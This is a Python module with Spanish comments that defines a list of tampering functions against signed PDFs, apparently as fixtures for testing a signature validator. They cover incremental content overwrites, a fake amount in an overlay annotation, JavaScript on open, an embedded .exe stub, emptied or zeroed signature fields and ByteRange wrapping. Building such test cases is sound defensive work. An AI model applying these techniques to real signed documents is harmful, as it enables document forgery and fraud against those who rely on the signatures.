"""Lo que hace quien quiere que un PDF firmado diga otra cosa y la firma siga pareciendo buena."""

from __future__ import annotations

import io
import re
from collections.abc import Callable

from pyhanko.pdf_utils import generic
from pyhanko.pdf_utils.embed import EmbeddedFileObject, FileSpec, embed_file
from pyhanko.pdf_utils.generic import pdf_name, pdf_string
from pyhanko.pdf_utils.incremental_writer import IncrementalPdfFileWriter

Escritor = IncrementalPdfFileWriter


def _revision(pdf: bytes, cambio: Callable[[Escritor], None]) -> bytes:
    """Añade una revisión al final, como haría un editor de PDF que respeta lo firmado."""
    escritor = Escritor(io.BytesIO(pdf))
    cambio(escritor)
    salida = io.BytesIO()
    escritor.write(salida)
    return salida.getvalue()


def cambiar_la_pagina(pdf: bytes) -> bytes:
    """Reemplaza el contenido de la página: donde decía «denegar», ahora dice «aprobar»."""

    def cambio(escritor: Escritor) -> None:
        pagina = escritor.find_page_for_modification(0)[0].get_object()
        texto = generic.StreamObject(stream_data=b"BT /F1 24 Tf 72 700 Td (APROBADO) Tj ET")
        pagina["/Contents"] = escritor.add_object(texto)
        escritor.update_container(pagina)

    return _revision(pdf, cambio)


def agregar_una_pagina(pdf: bytes) -> bytes:
    """Añade una hoja al final."""

    def cambio(escritor: Escritor) -> None:
        paginas = escritor.root["/Pages"]
        hoja = generic.DictionaryObject(
            {
                pdf_name("/Type"): pdf_name("/Page"),
                pdf_name("/Parent"): escritor.root.raw_get("/Pages"),
                pdf_name("/MediaBox"): generic.ArrayObject(
                    [generic.NumberObject(n) for n in (0, 0, 595, 842)]
                ),
            }
        )
        paginas["/Kids"].append(escritor.add_object(hoja))
        paginas["/Count"] = generic.NumberObject(int(paginas["/Count"]) + 1)
        escritor.update_container(paginas)
        escritor.update_container(paginas["/Kids"])

    return _revision(pdf, cambio)


def tapar_con_una_nota(pdf: bytes) -> bytes:
    """Pone encima del texto una anotación con otro texto."""

    def cambio(escritor: Escritor) -> None:
        pagina = escritor.find_page_for_modification(0)[0]
        nota = generic.DictionaryObject(
            {
                pdf_name("/Type"): pdf_name("/Annot"),
                pdf_name("/Subtype"): pdf_name("/FreeText"),
                pdf_name("/Rect"): generic.ArrayObject(
                    [generic.NumberObject(n) for n in (72, 600, 400, 700)]
                ),
                pdf_name("/Contents"): pdf_string("Monto: S/ 90,000"),
                pdf_name("/DA"): pdf_string("/Helv 12 Tf 0 g"),
                pdf_name("/F"): generic.NumberObject(4),
            }
        )
        escritor.register_annotation(pagina, escritor.add_object(nota))

    return _revision(pdf, cambio)


def poner_javascript(pdf: bytes) -> bytes:
    """Hace que al abrirse corra un programa."""

    def cambio(escritor: Escritor) -> None:
        accion = generic.DictionaryObject(
            {pdf_name("/S"): pdf_name("/JavaScript"), pdf_name("/JS"): pdf_string("app.alert('hola')")}
        )
        escritor.root["/OpenAction"] = escritor.add_object(accion)
        escritor.update_root()

    return _revision(pdf, cambio)


def adjuntar_un_archivo(pdf: bytes) -> bytes:
    """Mete un archivo dentro."""

    def cambio(escritor: Escritor) -> None:
        dentro = EmbeddedFileObject.from_file_data(escritor, data=b"MZ", mime_type="application/octet-stream")
        embed_file(escritor, FileSpec("anexo.exe", embedded_data=dentro))

    return _revision(pdf, cambio)


def cambiar_los_metadatos(pdf: bytes) -> bytes:
    """Cambia el título del documento."""

    def cambio(escritor: Escritor) -> None:
        datos = generic.DictionaryObject({pdf_name("/Title"): pdf_string("Otra resolución")})
        escritor.set_info(escritor.add_object(datos))

    return _revision(pdf, cambio)


def quitar_el_formulario(pdf: bytes) -> bytes:
    """Borra el formulario donde está la firma, para que el documento parezca no haber sido firmado nunca."""

    def cambio(escritor: Escritor) -> None:
        del escritor.root["/AcroForm"]
        escritor.update_root()

    return _revision(pdf, cambio)


def agregar_bytes_al_final(pdf: bytes) -> bytes:
    """Escribe algo después del final."""
    return pdf + b"\n% nada que ver aqui\n"


def agregar_un_salto_de_linea(pdf: bytes) -> bytes:
    """Un solo byte de más."""
    return pdf + b"\n"


def agregar_bytes_al_comienzo(pdf: bytes) -> bytes:
    """Escribe algo antes del comienzo: así un archivo es dos cosas a la vez."""
    return b"<html><script>1</script></html>\n" + pdf


def cambiar_un_byte(pdf: bytes) -> bytes:
    """Cambia una letra de lo firmado."""
    donde = pdf.index(b"stream") + 20
    return pdf[:donde] + bytes([pdf[donde] ^ 1]) + pdf[donde + 1 :]


def anular_el_rango(pdf: bytes) -> bytes:
    """Firma universal: un rango que no cubre nada."""
    return _reemplazar(
        pdf, rb"/ByteRange \[[^\]]*\]", lambda texto: b"/ByteRange [0 0 0 0]".ljust(len(texto))
    )


def vaciar_el_contenido(pdf: bytes) -> bytes:
    """Firma universal: un sobre vacío."""
    return _reemplazar(pdf, rb"/Contents <[0-9A-F]+>", lambda texto: b"/Contents <>".ljust(len(texto)))


def poner_ceros_en_el_contenido(pdf: bytes) -> bytes:
    """Firma universal: un sobre de ceros."""
    return _reemplazar(
        pdf, rb"/Contents <[0-9A-F]+>", lambda texto: b"/Contents <" + b"0" * (len(texto) - 12) + b">"
    )


def quitar_el_rango(pdf: bytes) -> bytes:
    """Firma universal: sin rango."""
    return _reemplazar(pdf, rb"/ByteRange \[", lambda _: b"/ByteRangX [")


def cambiar_el_tipo(pdf: bytes) -> bytes:
    """Hace que la firma diga que es otra cosa, para que nadie la mire."""
    return _reemplazar(pdf, rb"/Type /Sig\b", lambda _: b"/Type /Sog")


def ensanchar_el_hueco(pdf: bytes) -> bytes:
    """Envoltura: mueve lo firmado del final más allá y deja un hueco donde poner otra cosa."""
    rango = [int(n) for n in re.search(rb"/ByteRange \[(\d+) (\d+) (\d+) (\d+)\]", pdf).groups()]  # type: ignore[union-attr]
    relleno = b"\n9999 0 obj\n<</Type/Catalog>>\nendobj\n"
    movido = b"/ByteRange [%d %d %d %d]" % (0, rango[1], rango[2] + len(relleno), rango[3])
    con_hueco = pdf[: rango[2]] + relleno + pdf[rango[2] :]
    return _reemplazar(
        con_hueco, rb"/ByteRange \[\d+ \d+ \d+ \d+\] *", lambda texto: movido.ljust(len(texto))
    )


def esconder_en_el_relleno(pdf: bytes) -> bytes:
    """Alarga el hueco con ceros y escribe en ellos: bytes que la firma no cubre."""
    rango = [int(n) for n in re.search(rb"/ByteRange \[(\d+) (\d+) (\d+) (\d+)\]", pdf).groups()]  # type: ignore[union-attr]
    relleno = b"CAFE" * 8
    movido = b"/ByteRange [%d %d %d %d]" % (0, rango[1], rango[2] + len(relleno), rango[3])
    con_hueco = pdf[: rango[2] - 1] + relleno + pdf[rango[2] - 1 :]
    return _reemplazar(
        con_hueco, rb"/ByteRange \[\d+ \d+ \d+ \d+\] *", lambda texto: movido.ljust(len(texto))
    )


def _reemplazar(pdf: bytes, patron: bytes, por: Callable[[bytes], bytes]) -> bytes:
    cambiado, veces = re.subn(patron, lambda hallado: por(hallado[0]), pdf, count=1)
    assert veces == 1, patron
    return cambiado


ATAQUES = (
    cambiar_la_pagina,
    agregar_una_pagina,
    tapar_con_una_nota,
    poner_javascript,
    adjuntar_un_archivo,
    cambiar_los_metadatos,
    quitar_el_formulario,
    agregar_bytes_al_final,
    agregar_un_salto_de_linea,
    agregar_bytes_al_comienzo,
    cambiar_un_byte,
    anular_el_rango,
    vaciar_el_contenido,
    poner_ceros_en_el_contenido,
    quitar_el_rango,
    cambiar_el_tipo,
    ensanchar_el_hueco,
    esconder_en_el_relleno,
)
